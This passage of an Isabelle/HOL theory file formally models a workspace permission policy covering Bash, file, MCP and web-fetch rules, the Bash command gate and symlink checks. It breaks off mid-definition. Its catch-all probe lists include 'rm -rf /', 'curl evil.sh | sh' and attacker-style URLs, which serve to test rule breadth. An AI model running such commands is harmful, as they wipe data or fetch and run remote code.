(* ===== verification/Perm_Policy.thy ===== *)
theory Perm_Policy
  imports Perm_Rules Perm_Paths Shell_Words Glob_Meet Interfaces
begin

text \<open>
  The compiled permission policy of \<^verbatim>\<open>fuigo-workspace/src/permission/policy.rs\<close>: rule matching, the
  deny-over-ask-over-allow evaluation, the conjunctive Bash allow walk, the Bash command gate and the
  symlink re-check of native file accesses. Code outside the repository is the record \<open>perm_env\<close>, an
  argument of every definition that uses it: the glob crate (\<open>pe_glob_new\<close>, \<open>pe_glob_match\<close> with its
  \<open>require_literal_separator\<close> option, \<open>pe_glob_escape\<close>), the url crate (\<open>pe_url_host\<close>, the host of a URL that
  parses), Unicode lower-casing, the file system, and the two decompositions of a script built on the
  tree-sitter parser (\<open>pe_commands\<close> for \<open>all_commands_from_script\<close>, \<open>pe_recovered\<close> for the projections of
  \<open>PermissionScript\<close> and whether it is eligible). The type \<open>'g\<close> is a compiled glob.
\<close>

record 'g perm_env =
  pe_glob_new :: "ustring \<Rightarrow> 'g option"
  pe_glob_match :: "bool \<Rightarrow> 'g \<Rightarrow> ustring \<Rightarrow> bool"
  pe_glob_escape :: "ustring \<Rightarrow> ustring"
  pe_fs :: fs
  pe_url_host :: "ustring \<Rightarrow> ustring option"
  pe_to_lowercase :: "ustring \<Rightarrow> ustring"
  pe_commands :: "ustring \<Rightarrow> ustring list list option"
  pe_recovered :: "ustring \<Rightarrow> (ustring list list \<times> bool) option"

section \<open>Decisions\<close>

datatype gate_decision = GateReject ustring | AskRuleMatch | AskFailClosed

fun into_decision :: "gate_decision \<Rightarrow> decision" where
  "into_decision (GateReject reason) = Reject reason"
| "into_decision AskRuleMatch = Ask"
| "into_decision AskFailClosed = Ask"

definition gate_is_ask :: "gate_decision \<Rightarrow> bool" where
  "gate_is_ask d \<longleftrightarrow> d = AskRuleMatch \<or> d = AskFailClosed"

fun gate_rank :: "gate_decision \<Rightarrow> nat" where
  "gate_rank (GateReject _) = 3"
| "gate_rank AskRuleMatch = 2"
| "gate_rank AskFailClosed = 1"

definition combine_gate_decisions :: "gate_decision option \<Rightarrow> gate_decision option \<Rightarrow> gate_decision option" where
  "combine_gate_decisions a b = (case (a, b) of
       (None, other) \<Rightarrow> other
     | (other, None) \<Rightarrow> other
     | (Some x, Some y) \<Rightarrow> Some (if gate_rank y \<le> gate_rank x then x else y))"

fun decision_rank :: "decision \<Rightarrow> nat" where
  "decision_rank (Reject _) = 3"
| "decision_rank (PolicyDeny _) = 3"
| "decision_rank Ask = 2"
| "decision_rank Allow = 1"
| "decision_rank (FollowupMessage _) = 0"
| "decision_rank Cancelled = 0"

definition combine_decisions :: "decision option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "combine_decisions a b = (case (a, b) of
       (None, other) \<Rightarrow> other
     | (other, None) \<Rightarrow> other
     | (Some x, Some y) \<Rightarrow> Some (if decision_rank y \<le> decision_rank x then x else y))"

interpretation decisions: ranked_combine decision_rank combine_decisions
  by unfold_locales (simp_all add: combine_decisions_def split: option.split)

interpretation gates: ranked_combine gate_rank combine_gate_decisions
  by unfold_locales (simp_all add: combine_gate_decisions_def split: option.split)


section \<open>Matching one rule\<close>

definition is_tool_wide_pattern :: "ustring option \<Rightarrow> bool" where
  "is_tool_wide_pattern pat \<longleftrightarrow> pat = None \<or> pat = Some (str ''*'')"

fun tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access FilterAny = True"
| "tool_filter_matches access FilterBash = (case access of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterEdit = (case access of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterRead = (case access of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterGrep = (case access of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterMcp = (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterWebFetch = (case access of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterWebSearch = (case access of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access FilterAgentMessage = (case access of AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition is_tool :: "access_kind \<Rightarrow> bool" where
  "is_tool access = (case access of Tool _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition rule_reaches :: "access_kind \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_reaches access rule \<longleftrightarrow>
     (if is_tool access \<and> pr_tool rule = FilterEdit
      then pr_action rule \<noteq> AllowRule \<and> is_tool_wide_pattern (pr_pattern rule)
      else tool_filter_matches access (pr_tool rule))"

datatype match_context = PathContext | Freeform

definition glob_matches :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> match_context \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches env s ctx pat = (case pat of None \<Rightarrow> False | Some p \<Rightarrow> pe_glob_match env (ctx = PathContext) p s)"

text \<open>\<open>path_pattern_matches\<close> of \<^verbatim>\<open>path_match.rs\<close>: \<open>*\<close> does not cross a slash.\<close>

definition path_pattern_matches :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> 'g \<Rightarrow> rule_base option \<Rightarrow> bool" where
  "path_pattern_matches env path pat base =
     list_ex (pe_glob_match env True pat) (path_match_forms (pe_fs env) path base)"

definition path_context_matches :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> 'g option \<Rightarrow> rule_base option \<Rightarrow> bool" where
  "path_context_matches env path matcher base =
     (case matcher of None \<Rightarrow> False | Some pat \<Rightarrow> path_pattern_matches env path pat base)"

definition domain_matches :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> bool" where
  "domain_matches env pat url = (case pe_url_host env url of
       None \<Rightarrow> False
     | Some host \<Rightarrow>
         (let domain = normalize_domain (pe_to_lowercase env) host; normalized = normalize_domain (pe_to_lowercase env) pat in
          domain = normalized \<or> ends_with (str ''.'' @ normalized) domain))"

definition pattern_matches ::
    "('g, 'z) perm_env_scheme \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> rule_base option \<Rightarrow> bool" where
  "pattern_matches env access rule matcher base = (case pr_pattern rule of
       None \<Rightarrow> True
     | Some pat \<Rightarrow>
         (if pat = str ''*'' then True
          else case access of
              Bash c \<Rightarrow> starts_with pat (trim_start c) \<or> glob_matches env (trim_start c) Freeform matcher
            | Edit path \<Rightarrow> path_context_matches env path matcher base
            | Read path \<Rightarrow> (case path of Some p \<Rightarrow> path_context_matches env p matcher base | None \<Rightarrow> False)
            | Session \<Rightarrow> False
            | Grep path _ \<Rightarrow> (case path of Some p \<Rightarrow> path_context_matches env p matcher base | None \<Rightarrow> False)
            | MCPTool name _ \<Rightarrow> glob_matches env name Freeform matcher
            | WebFetch url \<Rightarrow>
                (case pr_pattern_mode rule of
                   Domain \<Rightarrow> domain_matches env pat url
                 | Glob \<Rightarrow> glob_matches env url Freeform matcher)
            | WebSearch query \<Rightarrow> glob_matches env query Freeform matcher \<or> starts_with pat query
            | AgentMessage subagent_id \<Rightarrow> glob_matches env subagent_id Freeform matcher \<or> starts_with pat subagent_id
            | Tool name \<Rightarrow> pr_tool rule \<noteq> FilterEdit \<and> glob_matches env name Freeform matcher))"

text \<open>The byte of the command after the pattern is a space just when the character there is one.\<close>

definition matches_command_prefix :: "ustring \<Rightarrow> ustring \<Rightarrow> bool" where
  "matches_command_prefix cmd pat \<longleftrightarrow> cmd = pat \<or> starts_with (pat @ str '' '') cmd"

definition bash_command_matches_pattern ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_command_matches_pattern env command_in pattern_in precompiled =
     (let cmd = trim_start command_in; pat = trim pattern_in in
      if pat = [] then False
      else if pat = str ''*'' then True
      else if matches_command_prefix cmd pat then True
      else case precompiled of
          Some p \<Rightarrow> glob_matches env cmd Freeform (Some p)
        | None \<Rightarrow> (case pe_glob_new env pat of Some p \<Rightarrow> glob_matches env cmd Freeform (Some p) | None \<Rightarrow> False))"

definition bash_allow_pattern_matches ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches env cmd rule matcher = (case pr_pattern rule of
       None \<Rightarrow> True
     | Some pat \<Rightarrow> if pat = str ''*'' then True else bash_command_matches_pattern env cmd pat matcher)"

definition bash_pattern_matches_command :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> bool" where
  "bash_pattern_matches_command env pat cmd = bash_command_matches_pattern env cmd pat None"

definition bash_pattern_is_broad :: "ustring \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern_in \<longleftrightarrow>
     (let pat = trim pattern_in in pat \<noteq> [] \<and> (pat = str ''*'' \<or> \<not> list_ex is_whitespace pat))"


section \<open>Catch-all rules\<close>

definition bash_probes :: "access_kind list" where
  "bash_probes = map (\<lambda>c. Bash (str c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPTool (str n) JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map (\<lambda>u. WebFetch (str u))
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes = map (\<lambda>s. AgentMessage (str s)) [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition compile_matcher :: "('g, 'z) perm_env_scheme \<Rightarrow> permission_rule \<Rightarrow> 'g option" where
  "compile_matcher env rule = (case pr_pattern rule of
       None \<Rightarrow> None | Some p \<Rightarrow> if p = str ''*'' then None else pe_glob_new env p)"

definition rule_is_catchall :: "('g, 'z) perm_env_scheme \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall env rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches env a rule (compile_matcher env rule) None) in
      case pr_tool rule of
        FilterBash \<Rightarrow> opens_all bash_probes
      | FilterMcp \<Rightarrow> opens_all mcp_probes
      | FilterWebFetch \<Rightarrow> opens_all webfetch_probes
      | FilterAgentMessage \<Rightarrow> opens_all agent_message_probes
      | FilterAny \<Rightarrow> opens_all bash_probes \<or> opens_all mcp_probes \<or> opens_all webfetch_probes \<or> opens_all agent_message_probes
      | _ \<Rightarrow> False)"

definition bash_glob_is_catchall :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> bool" where
  "bash_glob_is_catchall env pat =
     list_all (\<lambda>a. case a of Bash cmd \<Rightarrow> bash_pattern_matches_command env pat cmd | _ \<Rightarrow> False) bash_probes"


section \<open>The compiled policy\<close>

text \<open>
  \<open>policy_core\<close> is a policy without its launch sub-policy, which itself has none: it is compiled from
  \<open>PermissionConfig::new\<close>, whose launch rules are empty.
\<close>

record 'g policy_core =
  cp_config :: permission_config
  cp_matchers :: "'g option list"
  cp_has_file_restrictions :: bool
  cp_has_bash_command_restrictions :: bool
  cp_has_bash_allow_rules :: bool
  cp_catchall :: "bool list"
  cp_alias_prefix :: "(ustring \<times> ustring) option list"

record 'g compiled_policy = "'g policy_core" +
  cp_launch :: "'g policy_core option"

definition restricts :: "permission_rule \<Rightarrow> bool" where
  "restricts rule \<longleftrightarrow> pr_action rule = DenyRule \<or> pr_action rule = AskRule"

definition policy_core_new :: "('g, 'z) perm_env_scheme \<Rightarrow> permission_config \<Rightarrow> 'g policy_core" where
  "policy_core_new env config =
     (let rules = pc_rules config in
      \<lparr>cp_config = config,
       cp_matchers = map (compile_matcher env) rules,
       cp_has_file_restrictions = list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {FilterRead, FilterEdit, FilterAny}) rules,
       cp_has_bash_command_restrictions = list_ex (\<lambda>r. restricts r \<and> pr_tool r \<in> {FilterBash, FilterAny}) rules,
       cp_has_bash_allow_rules = list_ex (\<lambda>r. pr_action r = AllowRule \<and> pr_tool r \<in> {FilterBash, FilterAny}) rules,
       cp_catchall = map (rule_is_catchall env) rules,
       cp_alias_prefix = map (\<lambda>r. if restricts r then Option.bind (pr_pattern r) literal_dir_prefix else None) rules\<rparr>)"

definition CompiledPolicy_new :: "('g, 'z) perm_env_scheme \<Rightarrow> permission_config \<Rightarrow> 'g compiled_policy" where
  "CompiledPolicy_new env config =
     policy_core.extend (policy_core_new env config)
       (compiled_policy.fields
          (if pc_launch_rules config = [] then None
           else Some (policy_core_new env (PermissionConfig_new (pc_launch_rules config)))))"

definition has_launch_policy :: "'g compiled_policy \<Rightarrow> bool" where
  "has_launch_policy p \<longleftrightarrow> cp_launch p \<noteq> None"

abbreviation policy_rules :: "('g, 'z) policy_core_scheme \<Rightarrow> permission_rule list" where
  "policy_rules p \<equiv> pc_rules (cp_config p)"

definition physical_alias_pattern :: "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> nat \<Rightarrow> 'g option" where
  "physical_alias_pattern env p index =
     (if length (cp_alias_prefix p) \<le> index then None
      else case cp_alias_prefix p ! index of
          None \<Rightarrow> None
        | Some (pre, rest) \<Rightarrow>
            Option.bind (physical_alias_pattern_string (pe_glob_escape env) (pe_fs env) pre rest) (pe_glob_new env))"

fun native_file_path :: "access_kind \<Rightarrow> ustring option" where
  "native_file_path (Edit path) = Some path"
| "native_file_path (Read path) = path"
| "native_file_path (Grep path _) = path"
| "native_file_path _ = None"

text \<open>Only called on an access with a native file path; elsewhere the code is \<open>unreachable!\<close>.\<close>

fun access_with_path :: "access_kind \<Rightarrow> ustring \<Rightarrow> access_kind" where
  "access_with_path (Edit _) path = Edit path"
| "access_with_path (Read _) path = Read (Some path)"
| "access_with_path (Grep _ g) path = Grep (Some path) g"
| "access_with_path access _ = access"

definition alias_pattern_matches ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> nat \<Rightarrow> access_kind \<Rightarrow> rule_base option \<Rightarrow> bool" where
  "alias_pattern_matches env p index access base = (case native_file_path access of
       None \<Rightarrow> False
     | Some path \<Rightarrow>
         (case physical_alias_pattern env p index of
            None \<Rightarrow> False | Some alias \<Rightarrow> path_pattern_matches env path alias base))"

definition allow_rule_matches ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> rule_base \<Rightarrow> bool" where
  "allow_rule_matches env p access base =
     list_ex (\<lambda>(rule, matcher).
         pr_action rule = AllowRule \<and> tool_filter_matches access (pr_tool rule)
         \<and> pattern_matches env access rule matcher (Some base))
       (zip (policy_rules p) (cp_matchers p))"

definition native_path_restrictions_apply :: "('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> bool" where
  "native_path_restrictions_apply p access =
     list_ex (\<lambda>rule. restricts rule \<and> tool_filter_matches access (pr_tool rule)) (policy_rules p)"

definition restricted_pattern_may_match ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> ustring \<Rightarrow> bool" where
  "restricted_pattern_may_match env p probe pat =
     list_ex (\<lambda>rule. restricts rule \<and> rule_reaches probe rule
         \<and> (case pr_pattern rule of
              None \<Rightarrow> True
            | Some rp \<Rightarrow> rp = str ''*'' \<or> glob_patterns_may_intersect (\<lambda>c. pe_to_lowercase env [c]) pat rp))
       (policy_rules p)"


section \<open>Bash allow\<close>

datatype allow_rule_scope = ScopeAny | NarrowOnly

definition bash_words_allowed ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring list \<Rightarrow> allow_rule_scope \<Rightarrow> bool" where
  "bash_words_allowed env p words scope =
     (if words = [] then False
      else if scope = NarrowOnly \<and> head_is_exec_vehicle words then False
      else
        let cmd = join (str '' '') words in
        list_ex (\<lambda>((rule, matcher), catchall).
            \<not> (scope = NarrowOnly \<and> catchall) \<and> pr_action rule = AllowRule
            \<and> pr_tool rule \<in> {FilterBash, FilterAny} \<and> bash_allow_pattern_matches env cmd rule matcher)
          (zip (zip (policy_rules p) (cp_matchers p)) (cp_catchall p)))"

definition recovered_commands ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> allow_rule_scope
      \<Rightarrow> (ustring list list \<times> bool) option" where
  "recovered_commands env p cmd scope = (case pe_recovered env cmd of
       None \<Rightarrow> None
     | Some (projections, eligible) \<Rightarrow>
         Some (projections, eligible \<and> list_all (\<lambda>words. bash_words_allowed env p words scope) projections))"

definition norm_fails_closed :: "normalized_command_peel \<Rightarrow> bool" where
  "norm_fails_closed n \<longleftrightarrow> nc_exhausted n \<or> nc_ambiguous n \<or> nc_env_options_uncertain n \<or> nc_has_split_string n"

fun bash_chain_fully_allowed ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> nat \<Rightarrow> allow_rule_scope \<Rightarrow> bool" where
  "bash_chain_fully_allowed env p cmd depth scope = (case pe_commands env cmd of
       None \<Rightarrow> (case recovered_commands env p cmd scope of Some (_, covered) \<Rightarrow> covered | None \<Rightarrow> False)
     | Some segments \<Rightarrow>
         (if segments = [] then False
          else list_all (\<lambda>words.
            let norm = normalize_command_words words; inner = nc_words norm in
            if norm_fails_closed norm then False
            else if \<not> bash_words_allowed env p inner scope then False
            else case shell_dash_c_script (map Literal inner) of
                InlineLiteral index \<Rightarrow>
                  (if 0 < depth then bash_chain_fully_allowed env p (inner ! index) (depth - 1) scope else False)
              | NotInline \<Rightarrow> True
              | _ \<Rightarrow> False) segments))"

declare bash_chain_fully_allowed.simps [simp del]

definition narrow_allow_authorizes :: "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> bool" where
  "narrow_allow_authorizes env p access = (case access of
       Bash cmd \<Rightarrow> cp_has_bash_allow_rules p \<and> bash_chain_fully_allowed env p cmd MAX_INLINE_SHELL_DEPTH NarrowOnly
     | _ \<Rightarrow> False)"


section \<open>Evaluation\<close>

fun tool_label :: "tool_filter \<Rightarrow> ustring" where
  "tool_label FilterAny = str ''any tool''"
| "tool_label FilterBash = str ''bash''"
| "tool_label FilterEdit = str ''edit''"
| "tool_label FilterRead = str ''read''"
| "tool_label FilterGrep = str ''grep''"
| "tool_label FilterMcp = str ''mcp''"
| "tool_label FilterWebFetch = str ''web_fetch''"
| "tool_label FilterWebSearch = str ''web_search''"
| "tool_label FilterAgentMessage = str ''agent_message''"

definition deny_reason :: "permission_rule \<Rightarrow> ustring" where
  "deny_reason rule =
     str ''Denied by permission policy: deny rule on '' @ tool_label (pr_tool rule)
     @ (case pr_pattern rule of
          Some pat \<Rightarrow> str '' matching '' @ [ch CHR 0x22] @ pat @ [ch CHR 0x22]
        | None \<Rightarrow> [])"

definition rule_applies ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> rule_base option
      \<Rightarrow> nat \<Rightarrow> permission_rule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "rule_applies env p access base index rule matcher \<longleftrightarrow>
     rule_reaches access rule \<and>
     (let rb = (if pr_action rule = AllowRule then map_option without_physical base else base) in
      pattern_matches env access rule matcher rb \<or> alias_pattern_matches env p index access rb)"

fun rules_loop ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> rule_base option
      \<Rightarrow> (nat \<times> permission_rule \<times> 'g option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> decision + (bool \<times> bool)" where
  "rules_loop env p access base [] matched_ask matched_allow = Inr (matched_ask, matched_allow)"
| "rules_loop env p access base ((index, rule, matcher) # rest) matched_ask matched_allow =
     (if \<not> rule_applies env p access base index rule matcher
      then rules_loop env p access base rest matched_ask matched_allow
      else case pr_action rule of
          DenyRule \<Rightarrow> Inl (Reject (deny_reason rule))
        | AskRule \<Rightarrow> rules_loop env p access base rest True matched_allow
        | AllowRule \<Rightarrow> rules_loop env p access base rest matched_ask True)"

definition indexed_rules :: "('g, 'y) policy_core_scheme \<Rightarrow> (nat \<times> permission_rule \<times> 'g option) list" where
  "indexed_rules p = List.enumerate 0 (zip (policy_rules p) (cp_matchers p))"

definition evaluate_rules_with_base ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> rule_base option \<Rightarrow> decision option" where
  "evaluate_rules_with_base env p access base =
     (case rules_loop env p access base (indexed_rules p) False False of
        Inl d \<Rightarrow> Some d
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          (if matched_ask then Some Ask
           else case access of
               Bash cmd \<Rightarrow>
                 (if cp_has_bash_allow_rules p \<and> bash_chain_fully_allowed env p cmd MAX_INLINE_SHELL_DEPTH ScopeAny
                  then Some Allow else None)
             | _ \<Rightarrow> if matched_allow then Some Allow else None))"

text \<open>\<open>Path::starts_with\<close> and \<open>Path::ancestors\<close>.\<close>

definition path_starts_with :: "ustring \<Rightarrow> ustring \<Rightarrow> bool" where
  "path_starts_with path base \<longleftrightarrow> strip_components (components base) (components path) \<noteq> None"

definition path_ancestors :: "ustring \<Rightarrow> ustring list" where
  "path_ancestors path =
     (let cs = components path in
      path # map (\<lambda>n. of_components (take n cs)) (rev [(if is_absolute path then 1 else 0)..<length cs]))"

definition alias_spelling :: "fs \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> ustring option" where
  "alias_spelling w resolved ancestor = (case resolve_following_symlinks w ancestor of
       None \<Rightarrow> None
     | Some ph \<Rightarrow>
         (if components ph = components ancestor then None
          else map_option (\<lambda>rel. path_join ancestor (of_components rel))
                 (strip_components (components ph) (components resolved))))"

definition allow_leaves_workspace ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> access_kind \<Rightarrow> ustring \<Rightarrow> rule_base \<Rightarrow> bool" where
  "allow_leaves_workspace env p path resolved_access resolved base =
     (let written = absolute_normalized_path path (Some (rb_lexical base));
          ph = physical (pe_fs env) base;
          in_workspace = (path_starts_with written (rb_lexical_normalized base)
                          \<or> (case ph of Some x \<Rightarrow> path_starts_with written x | None \<Rightarrow> False));
          root = (case ph of Some x \<Rightarrow> x | None \<Rightarrow> rb_lexical_normalized base);
          root_base = without_physical (RuleBase_new root)
      in if \<not> in_workspace then False
         else if path_starts_with resolved root then False
         else if allow_rule_matches env p resolved_access root_base then False
         else \<not> list_ex (\<lambda>ancestor. case alias_spelling (pe_fs env) resolved ancestor of
                   None \<Rightarrow> False
                 | Some alias \<Rightarrow>
                     allow_rule_matches env p (access_with_path resolved_access (path_match_string alias)) root_base)
               (path_ancestors (rb_lexical_normalized base)))"

definition symlink_target :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> symlink_follow" where
  "symlink_target env path raw_absolute lexical_abs =
     (case follow_absolute_symlink (pe_fs env) raw_absolute lexical_abs of
        FollowNone \<Rightarrow> if path_has_parent_dir path then FollowTarget lexical_abs else FollowNone
      | follow \<Rightarrow> follow)"

definition escalations :: "decision option \<Rightarrow> decision option" where
  "escalations d = (case d of Some (Reject r) \<Rightarrow> Some (Reject r) | Some Ask \<Rightarrow> Some Ask | _ \<Rightarrow> None)"

text \<open>A direct allow is dropped when the link leads out of the workspace.\<close>

definition allow_after_link ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> access_kind \<Rightarrow> ustring
      \<Rightarrow> rule_base option \<Rightarrow> decision option \<Rightarrow> decision option" where
  "allow_after_link env p path resolved_access resolved base direct = (case (direct, base) of
       (Some Allow, Some b) \<Rightarrow>
         if allow_leaves_workspace env p path resolved_access resolved b then None else direct
     | _ \<Rightarrow> direct)"

definition evaluate_with_cwd_details ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> ustring option \<Rightarrow> decision option \<times> bool" where
  "evaluate_with_cwd_details env p access cwd =
     (let base = map_option RuleBase_new cwd;
          direct = evaluate_rules_with_base env p access base
      in case native_file_path access of
           None \<Rightarrow> (direct, False)
         | Some path \<Rightarrow>
             (case raw_absolute_tool_path path cwd of
                None \<Rightarrow> (direct, False)
              | Some raw_absolute \<Rightarrow>
                  (let lexical_abs = path_match_string (absolute_normalized_path path cwd) in
                   case symlink_target env path raw_absolute lexical_abs of
                     FollowTarget resolved \<Rightarrow>
                       (let resolved_access = access_with_path access resolved;
                            resolved_decision = escalations (evaluate_rules_with_base env p resolved_access base);
                            direct' = allow_after_link env p path resolved_access resolved base direct
                        in (combine_decisions direct' resolved_decision, False))
                   | Unresolvable \<Rightarrow>
                       if native_path_restrictions_apply p access then (combine_decisions direct (Some Ask), True)
                       else (direct, False)
                   | FollowNone \<Rightarrow> (direct, False))))"

definition evaluate_with_cwd ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> ustring option \<Rightarrow> decision option" where
  "evaluate_with_cwd env p access cwd = fst (evaluate_with_cwd_details env p access cwd)"

definition evaluate :: "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> access_kind \<Rightarrow> decision option" where
  "evaluate env p access = evaluate_with_cwd env p access None"


section \<open>The Bash command gate\<close>

definition escalate_segment :: "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> gate_decision option" where
  "escalate_segment env p segment = (case evaluate env p (Bash segment) of
       Some (Reject reason) \<Rightarrow> Some (GateReject reason)
     | Some Ask \<Rightarrow> Some AskRuleMatch
     | _ \<Rightarrow> None)"

definition ask_floor :: "bool \<Rightarrow> gate_decision option" where
  "ask_floor b = (if b then Some AskFailClosed else None)"

definition combine_all :: "gate_decision option list \<Rightarrow> gate_decision option" where
  "combine_all ds = foldl combine_gate_decisions None ds"

text \<open>
  The forms of one command that are judged against the rules: as written, and normalized when that drops
  words. The inline \<open>-c\<close> script and a packed \<open>env -S\<close> script recurse with one level less.
\<close>

definition command_forms :: "ustring list \<Rightarrow> ustring list \<Rightarrow> ustring list list" where
  "command_forms raw_words inner_words =
     raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else [])"

function evaluate_bash_command_segments ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> nat \<Rightarrow> gate_decision option"
  and evaluate_command_words ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring list \<Rightarrow> nat \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments env p cmd depth = (case pe_commands env cmd of
       None \<Rightarrow>
         (case recovered_commands env p cmd ScopeAny of
            None \<Rightarrow> Some AskFailClosed
          | Some (projections, covered) \<Rightarrow>
              foldl combine_gate_decisions (ask_floor (\<not> covered))
                (map (\<lambda>words. evaluate_command_words env p words depth) projections))
     | Some segments \<Rightarrow> combine_all (map (\<lambda>words. evaluate_command_words env p words depth) segments))"
| "evaluate_command_words env p raw_words depth =
     (let norm = normalize_command_words raw_words; inner_words = nc_words norm in
      combine_all
        ([ask_floor (nc_exhausted norm \<or> nc_ambiguous norm \<or> nc_env_options_uncertain norm),
          ask_floor (nc_has_split_string norm)]
         @ map (\<lambda>words. escalate_segment env p (join (str '' '') words)) (command_forms raw_words inner_words)
         @ [case shell_dash_c_script (map Literal inner_words) of
              InlineLiteral index \<Rightarrow>
                (if 0 < depth then evaluate_bash_command_segments env p (inner_words ! index) (depth - 1)
                 else Some AskFailClosed)
            | NotInline \<Rightarrow> None
            | _ \<Rightarrow> Some AskFailClosed,
            case env_split_string_script inner_words of
              Some script \<Rightarrow>
                (if 0 < depth then evaluate_bash_command_segments env p script (depth - 1) else Some AskFailClosed)
            | None \<Rightarrow> None]))"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>x. case x of Inl (_, _, _, d) \<Rightarrow> 2 * d + 1 | Inr (_, _, _, d) \<Rightarrow> 2 * d)") auto

declare evaluate_bash_command_segments.simps [simp del] evaluate_command_words.simps [simp del]

definition evaluate_bash_command_gate ::
    "('g, 'z) perm_env_scheme \<Rightarrow> ('g, 'y) policy_core_scheme \<Rightarrow> ustring \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate env p cmd =
     (if \<not> cp_has_bash_command_restrictions p then None
      else evaluate_bash_command_segments env p cmd MAX_INLINE_SHELL_DEPTH)"

text \<open>
  Whether a call of the gate may panic: some command it comes to, or one the allow walk of a judged form
  comes to, makes normalization panic. The walks stop early on some scripts; here they never do.
\<close>

fun allow_walk_may_panic :: "('g, 'z) perm_env_scheme \<Rightarrow> ustring \<Rightarrow> nat \<Rightarrow> bool" where
  "allow_walk_may_panic env cmd depth = (case pe_commands env cmd of
       None \<Rightarrow> False
